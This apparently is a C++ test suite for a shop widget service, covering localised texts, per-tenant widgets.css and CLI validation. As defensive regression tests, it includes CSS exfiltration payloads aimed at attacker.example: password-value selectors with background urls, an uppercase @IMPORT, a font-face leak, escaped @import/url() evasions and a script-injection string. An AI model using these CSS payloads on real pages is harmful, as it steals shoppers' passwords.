// The operator's widget presentation end to end: set by the real CLI binary (bad input
// refused, naming the key or option, nothing changed), stored in SQLite, delivered with the
// content (texts of the language the tenant's rule picks) and as /<apiId>/widgets.css.
#include <doctest/doctest.h>

#include <fstream>
#include <sstream>

#include <nlohmann/json.hpp>

#include "ChildProcess.hpp"
#include "DataDirSql.hpp"
#include "ServerFixture.hpp"

using namespace svc;
using nlohmann::json;

namespace {

struct CliOutcome {
    int exitCode;
    std::string out;
    std::string err;
};

std::string readAll(const std::string& path) {
    std::ifstream file(path);
    std::stringstream text;
    text << file.rdbuf();
    return text.str();
}

// Runs the real svc-server binary against `dataDir`.
CliOutcome runCli(const test::TempDir& dir, std::vector<std::string> arguments) {
    arguments = test::TestStorage::withDatabaseUrl(std::move(arguments));
    arguments.insert(arguments.begin(), SVC_SERVER_BINARY);
    arguments.insert(arguments.begin(), {"/bin/sh", "-c", "exec \"$0\" \"$@\" 2>\"$SVC_ERR\""});
    std::string out = dir.path() + "/cli-out.txt";
    std::string err = dir.path() + "/cli-err.txt";
    setenv("SVC_ERR", err.c_str(), 1);
    test::ChildProcess child(arguments, out);
    int code = child.wait();
    return {code, readAll(out), readAll(err)};
}

const std::vector<std::string> kHeader = {"sku", "main-sku", "model", "stock", "name", "retail-price", "discount-price",
                                          "deeplink", "image", "category-path", "marke", "farbe"};

std::vector<std::string> row(const std::string& mainSku, const std::string& model, const std::string& colour) {
    return {mainSku + "-M", mainSku, model, "5", "Item " + mainSku, "5000", "5000", "https://shop.example/" + mainSku,
            "https://shop.example/" + mainSku + ".jpg", "Women > Jeans", "Brand", colour};
}

struct PresentationFixture {
    test::TempDir dir;
    test::RunningServer server{dir.path()};
    Tenant shop;
    Tenant other;
    PresentationFixture() {
        for (Tenant* tenant : {&shop, &other}) {
            auto created = TenantService(server.storage->tenants()).create("Shop");
            REQUIRE(created);
            *tenant = created->tenant;
            auto feed = test::feedCsv({kHeader, row("A", "M1", "Blue"), row("B", "M2", "Blue"), row("C", "M3", "Red")});
            REQUIRE(test::importFeedFile(*server.storage, *tenant, dir.path(), dir.file("feed.csv", feed)));
        }
    }
    WidgetSettingsStore* store() { return &server.storage->widgetSettings(); }
    json content(const Tenant& tenant, const std::string& hints) {
        auto response = server.client().Get("/" + tenant.apiId + "/content?w=SIMILAR&t=product&s=A-M&i=" + hints);
        REQUIRE(response);
        REQUIRE(response->status == 200);
        return json::parse(response->body);
    }
};

}  // namespace

TEST_CASE("widget texts: the tenant's rule picks the page's language; its bundle overrides the built-in texts") {
    PresentationFixture f;
    auto store = f.store();
    REQUIRE(store->setTexts(f.shop.id, "de", R"({"addToCart": "Ab in den Korb", "titleSimilar": "Passt auch"})", 0));
    REQUIRE(store->setTexts(f.shop.id, "fr", R"({"addToCart": "Ajouter au panier"})", 0));

    struct Case {
        std::string hints;
        std::string language;
        std::string addToCart;
        std::string addedToCart;
    };
    // The default rule reads <html lang> (hl); the path segment (hp) does not count for it.
    const std::vector<Case> cases{
        {"&hl=de-DE&hp=fr", "de", "Ab in den Korb", "Zum Warenkorb hinzugefügt"},
        {"&hl=fr", "fr", "Ajouter au panier", "Added to cart"},
        {"&hl=it", "en", "Add to cart", "Added to cart"},
        {"", "en", "Add to cart", "Added to cart"},
    };
    for (const auto& c : cases) {
        CAPTURE(c.hints);
        json body = f.content(f.shop, c.hints);
        CHECK(body["language"] == c.language);
        CHECK(body["texts"]["addToCart"] == c.addToCart);
        CHECK(body["texts"]["addedToCart"] == c.addedToCart);
        CHECK(!body["widgets"][0]["items"].empty());
    }
    // Tenants are isolated: the other shop's German is the built-in one.
    CHECK(f.content(f.other, "&hl=de")["texts"]["addToCart"] == "In den Warenkorb");
    CHECK(f.content(f.shop, "&hl=de")["texts"]["titleSimilar"] == "Passt auch");
}

TEST_CASE("widget texts: path-segment and fixed rules") {
    PresentationFixture f;
    auto store = f.store();
    WidgetSettingsChange pathRule;
    pathRule.languageSource = LanguageSource::PathSegment;
    pathRule.defaultLanguage = "de";
    REQUIRE(store->change(f.shop.id, pathRule, 0));
    WidgetSettingsChange fixedRule;
    fixedRule.languageSource = LanguageSource::Fixed;
    fixedRule.defaultLanguage = "de";
    REQUIRE(store->change(f.other.id, fixedRule, 0));
    CHECK(f.content(f.shop, "&hl=de&hp=en")["language"] == "en");
    CHECK(f.content(f.shop, "&hl=en&hp=products")["language"] == "de");
    CHECK(f.content(f.other, "&hl=en&hp=en")["texts"]["addToCart"] == "In den Warenkorb");
}

TEST_CASE("widgets.css: the base stylesheet plus the tenant's CSS, cacheable; other tenants get the base only") {
    PresentationFixture f;
    auto store = f.store();
    WidgetSettingsChange css;
    css.css = ".svc-widget .svc-card__cart { background: #0a5 !important; }";
    REQUIRE(store->change(f.shop.id, css, 0));
    auto client = f.server.client();
    auto mine = client.Get("/" + f.shop.apiId + "/widgets.css");
    REQUIRE(mine);
    CHECK(mine->status == 200);
    CHECK(mine->get_header_value("Content-Type") == "text/css; charset=utf-8");
    CHECK(mine->get_header_value("Cache-Control").find("max-age=") != std::string::npos);
    CHECK(mine->body.find(".svc-widget .svc-widget__list") != std::string::npos);  // the base
    CHECK(mine->body.find("background: #0a5") != std::string::npos);
    CHECK(mine->body.find("background: #0a5") > mine->body.find(".svc-widget .svc-widget__list"));  // after it: it wins ties
    auto theirs = client.Get("/" + f.other.apiId + "/widgets.css");
    REQUIRE(theirs);
    CHECK(theirs->status == 200);
    CHECK(theirs->body.find("#0a5") == std::string::npos);
    auto unknown = client.Get("/00000000-0000-4000-8000-000000000000/widgets.css");
    REQUIRE(unknown);
    CHECK(unknown->status == 404);
}

// Issue 18, finding 11: a tenant's CSS matched the shop's page (the password field's value,
// byte by byte, through background urls to another host). Served, it now matches inside the
// widgets only; CSS stored before the checks is served without what they refuse, never raw.
TEST_CASE("widgets.css: the operator's CSS is scoped to the widgets; CSS stored before the checks is served without what they refuse") {
    PresentationFixture f;
    auto store = f.store();
    WidgetSettingsChange css;
    css.css = "input[type=password] { background-color: red }\n.svc-card { border-color: red }\n";
    REQUIRE(store->change(f.shop.id, css, 0));
    auto client = f.server.client();
    auto mine = client.Get("/" + f.shop.apiId + "/widgets.css");
    REQUIRE(mine);
    CHECK(mine->status == 200);
    std::string tenantPart = mine->body.substr(mine->body.find("/* The operator's CSS"));
    CHECK(tenantPart.find("\n.svc-widget input[type=\"password\"] { background-color: red }\n") != std::string::npos);
    CHECK(tenantPart.find("\n.svc-widget .svc-card { border-color: red }\n") != std::string::npos);
    CHECK(mine->body.find("\ninput[type=password]") == std::string::npos);

    // Stored by an older svc, which checked only for a lower-case "@import".
    const std::string legacy =
        "@IMPORT url(https://attacker.example/x.css);\n"
        "input[type=password][value^=a] { background: url(https://attacker.example/a) }\n"
        "body:has(input[value^=b]) { background: red }\n"
        "@font-face { font-family: Leak; src: url(https://attacker.example/f.woff) }\n"
        ".svc-card__name { color: navy !important }\n";
    {
        auto db = test::DataDirSql::open(f.dir.path(), "svc.sqlite3");
        REQUIRE(db);
        REQUIRE(db->execute("INSERT INTO widget_settings(tenant_id, css, updated_at) VALUES ($1, $2, 0)", {f.other.id, legacy}));
    }
    auto theirs = client.Get("/" + f.other.apiId + "/widgets.css");
    REQUIRE(theirs);
    CHECK(theirs->status == 200);
    CHECK(theirs->body.find("attacker.example") == std::string::npos);
    CHECK(theirs->body.find("@IMPORT") == std::string::npos);
    size_t theirPart = theirs->body.find("/* The operator's CSS");
    REQUIRE(theirPart != std::string::npos);
    CHECK(theirs->body.substr(theirPart) ==
          "/* The operator's CSS for this shop, scoped to its widgets (docs/adr/0058) */\n"
          ".svc-widget .svc-card__name { color: navy !important }\n");
}

TEST_CASE("tenant widgets and tenant texts: the CLI sets, shows and refuses bad input naming it, changing nothing") {
    test::TempDir dir;
    auto created = runCli(dir, {"tenant", "create", "--data-dir", dir.path(), "--name", "Shop"});
    REQUIRE(created.exitCode == 0);
    std::string apiId = json::parse(created.out)["apiId"];
    auto widgets = [&](std::vector<std::string> options) {
        std::vector<std::string> arguments{"tenant", "widgets", "--data-dir", dir.path(), "--api-id", apiId};
        arguments.insert(arguments.end(), options.begin(), options.end());
        return runCli(dir, arguments);
    };
    auto texts = [&](const std::string& language, const std::string& json) {
        return runCli(dir, {"tenant", "texts", "--data-dir", dir.path(), "--api-id", apiId, "--language", language,
                            dir.file("texts.json", json)});
    };

    auto set = widgets({"--language-rule", "path-segment", "--default-language", "de", "--country", "de", "--css-file",
                        dir.file("shop.css", ".svc-widget .svc-card__name { color: navy !important; }")});
    REQUIRE(set.exitCode == 0);
    json shown = json::parse(set.out);
    CHECK(shown["languageRule"] == "path-segment");
    CHECK(shown["defaultLanguage"] == "de");
    CHECK(shown["country"] == "DE");
    CHECK(shown["lowestPrice30Days"] == true);
    CHECK(shown["cssBytes"] > 10);

    auto ok = texts("fr", R"({"addToCart": "Ajouter"})");
    REQUIRE(ok.exitCode == 0);
    CHECK(json::parse(ok.out)["texts"]["fr"]["addToCart"] == "Ajouter");

    struct Refused {
        CliOutcome outcome;
        std::string message;
    };
    std::vector<Refused> refused;
    refused.push_back({widgets({"--language-rule", "browser"}), "--language-rule: 'browser' is not one of"});
    refused.push_back({widgets({"--country", "Germany"}), "--country: 'Germany' is not a two-letter"});
    refused.push_back({widgets({"--default-language", "German"}), "--default-language: 'German' is not"});
    refused.push_back({widgets({"--css-file", dir.file("bad.css", "</style><script>alert(1)</script>")}), "--css-file: contains '<'"});
    refused.push_back({widgets({"--css-file", dir.file("leak.css", ".svc-card { color: red }\n@\\69mport 'https://x.example/y.css';")}),
                       "--css-file: line 2, column 1: @import is not allowed"});
    refused.push_back({widgets({"--css-file", dir.file("leak.css", "input[value^=a] { background: u\\72l(https://x.example/a) }")}),
                       "--css-file: line 1, column 31: url(\"https://x.example/a\") leaves svc"});
    refused.push_back({texts("fr", R"({"addToCart": "Ajouter", "addToKart": "x"})"), "texts.addToKart: unknown text key"});
    refused.push_back({texts("fr", R"({"addToCart": 3})"), "texts.addToCart: must be a string"});
    refused.push_back({texts("French", R"({"addToCart": "x"})"), "language: 'French'"});
    for (const auto& r : refused) {
        CAPTURE(r.outcome.err);
        CHECK(r.outcome.exitCode == 1);
        CHECK(r.outcome.err.find(r.message) != std::string::npos);
    }
    // Nothing of the refused input was stored.
    auto after = widgets({});
    REQUIRE(after.exitCode == 0);
    json settings = json::parse(after.out);
    CHECK(settings["languageRule"] == "path-segment");
    CHECK(settings["country"] == "DE");
    CHECK(settings["cssBytes"] == shown["cssBytes"]);
    CHECK(settings["texts"] == json{{"fr", {{"addToCart", "Ajouter"}}}});

    auto removed = runCli(dir, {"tenant", "texts", "--data-dir", dir.path(), "--api-id", apiId, "--language", "fr", "--remove"});
    REQUIRE(removed.exitCode == 0);
    CHECK(json::parse(removed.out)["texts"].empty());
}
